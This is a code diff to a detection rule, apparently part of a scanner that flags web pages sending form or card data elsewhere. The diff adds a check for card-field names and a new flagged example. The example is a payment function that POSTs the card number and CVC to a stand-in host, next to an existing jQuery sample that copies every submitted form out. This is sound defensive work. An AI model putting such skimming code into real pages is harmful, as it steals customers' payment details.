@@ -10,7 +10,13 @@ import {
   stepsOf,
 } from '../src/define.js';
 import type { AnyNode, FileContext, Label, Step } from '../src/types.js';
-import { isCardPattern, isSensitiveField, isSensitivePattern, isWholeStore } from '../src/vocabulary/page.js';
+import {
+  isCardField,
+  isCardPattern,
+  isSensitiveField,
+  isSensitivePattern,
+  isWholeStore,
+} from '../src/vocabulary/page.js';
 
 /** Something of a page that leaves it, or is made ready to. */
 interface Sent {
@@ -66,6 +72,10 @@ export default defineRule({
   },
   examples: {
     flags: [
+      {
+        title: 'a form to pay with sends what is in it to a second place',
+        code: `export function pay(form, onPay) {\n  const fields = Object.fromEntries(new FormData(form));\n  const request = new XMLHttpRequest();\n  request.open('POST', 'https://pay-parts.castle.invalid/v');\n  request.send(JSON.stringify({ n: fields.cardnumber, c: fields.cvc }));\n  onPay(fields);\n}`,
+      },
       {
         title: 'a plugin copies each form that is sent to a place of its own',
         code: `(function ($) {\n  var send = $.ajax;\n  $(document).on('submit', 'form', function () { send({ type: 'POST', url: 'https://forms.invalid/a', data: $(this).serialize() }); });\n})(jQuery);`,
@@ -249,6 +259,11 @@ function sensitiveInterest({ nodes, textsOf, named }: FileContext): AnyNode | un
   }
   const looked = named(/querySelector|getElement|\.(?:includes|indexOf|matches|closest|test)$|^\$$/).slice(0, MOST);
   for (const { node, args } of looked) if (args[0] && textsOf(args[0]).some(isSensitiveField)) return node;
+  // `form.cardNumber`, `fields.cvc`
+  const member = nodes('MemberExpression').find(
+    ({ computed, property }) => !computed && property.type === 'Identifier' && isCardField(property.name),
+  );
+  if (member) return member;
   return nodes('Literal').find(node => {
     const { regex } = node as { regex?: { pattern: string } };
     return regex !== undefined && (isCardPattern(regex.pattern) || isSensitivePattern(regex.pattern));
